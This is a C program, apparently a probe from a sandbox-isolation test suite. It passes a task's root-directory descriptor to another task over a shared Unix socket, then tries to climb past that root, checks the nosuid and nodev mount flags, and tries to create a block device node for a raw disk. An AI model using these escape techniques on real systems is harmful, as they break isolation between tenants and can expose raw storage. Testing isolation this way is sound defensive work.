/* A descriptor handed from one task to another through a socket in a directory that both have.
 *
 *   pass give PATH     listens at PATH, hands out its root directory, and stays
 *   pass take PATH     takes it, and tries to get further than the giver could */
#include "attack.h"
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static int exchange(int socket, int give)
{
	char byte = 'x', room[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec data = { &byte, 1 };
	struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
	if (give < 0) {
		if (recvmsg(socket, &message, MSG_CMSG_CLOEXEC) < 0 || !CMSG_FIRSTHDR(&message))
			return -1;
		return *(int *)CMSG_DATA(CMSG_FIRSTHDR(&message));
	}
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof(int));
	*(int *)CMSG_DATA(head) = give;
	return sendmsg(socket, &message, 0) < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	strcpy(address.sun_path, argc > 2 ? argv[2] : "/alloc/socket");
	int local = socket(AF_UNIX, SOCK_STREAM, 0);
	if (argc > 1 && !strcmp(argv[1], "give")) {
		TRY("bind", bind(local, (void *)&address, sizeof address));
		chmod(address.sun_path, 0666);
		listen(local, 1);
		show("ready", "yes");
		int peer = accept(local, NULL, NULL), root = open("/", O_RDONLY | O_DIRECTORY);
		TRY("give", exchange(peer, root));
		return stay();
	}
	TRY("connect", connect(local, (void *)&address, sizeof address));
	int theirs = exchange(local, -1);
	tell("take", theirs);
	struct stat before, after;
	fstat(theirs, &before);
	int at = theirs;
	for (int step = 0; step < 100; step++) {
		int up = openat(at, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (up < 0)
			break;
		if (at != theirs)
			close(at);
		at = up;
	}
	fstat(at, &after);
	show("climb", "%s", before.st_ino == after.st_ino && before.st_dev == after.st_dev ? "top" : "further");
	struct statvfs flags;
	fstatvfs(theirs, &flags);
	show("flags", "%s %s", flags.f_flag & ST_NOSUID ? "nosuid" : "SUID", flags.f_flag & ST_NODEV ? "nodev" : "DEV");
	TRY("node", mknodat(theirs, "node", S_IFBLK | 0666, makedev(8, 0)));
	return 0;
}
